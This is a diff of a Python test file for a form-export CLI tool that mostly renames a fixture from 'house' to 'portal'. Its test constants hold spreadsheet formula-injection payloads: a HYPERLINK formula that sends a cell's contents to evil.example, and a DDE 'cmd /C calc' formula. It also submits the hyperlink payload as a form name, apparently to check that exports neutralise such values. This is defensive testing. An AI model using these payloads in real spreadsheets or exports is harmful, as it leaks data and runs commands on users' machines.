@@ -21,10 +21,10 @@ HOSTILE = '=HYPERLINK("https://evil.example/?"&A1;"se her")'
 COMPUTED = ("=1+1", "+1", "-1", "@SUM(1)", "＝1+1", "=cmd|' /C calc'!A0", HOSTILE, "'=1")
 
 
-def desk(house, *arguments):
+def desk(portal, *arguments):
     return subprocess.run(
         [sys.executable, "-m", "mentorkorps", "desk", *map(str, arguments)],
-        capture_output=True, cwd=ROOT, env=os.environ | house.environ,
+        capture_output=True, cwd=ROOT, env=os.environ | portal.environ,
     )  # fmt: skip
 
 
@@ -33,16 +33,16 @@ def table(text: bytes) -> list[dict[str, str]]:
 
 
 @pytest.fixture
-def busy(house, hands):
-    house.post(phone="+45 12 34 56 78", languages=["da", "en"])
-    house.client.post(house.link("confirm"))
+def busy(portal, hands):
+    portal.post(phone="+45 12 34 56 78", languages=["da", "en"])
+    portal.client.post(portal.link("confirm"))
     hands.pass_by(days=1)
-    house.post(name=HOSTILE, email="bo@example.org", website="x")
+    portal.post(name=HOSTILE, email="bo@example.org", website="x")
     hands.pass_by(days=1)
-    house.client.post("/forms/interesseliste", data={
+    portal.client.post("/forms/interesseliste", data={
         "name": "Ida", "email": "ida@example.org", "place": "5000", "adult": "yes", "contact": "2026-11-22",
     })  # fmt: skip
-    return house
+    return portal
 
 
 def test_a_form_is_written_with_its_questions_as_columns(busy, tmp_path):
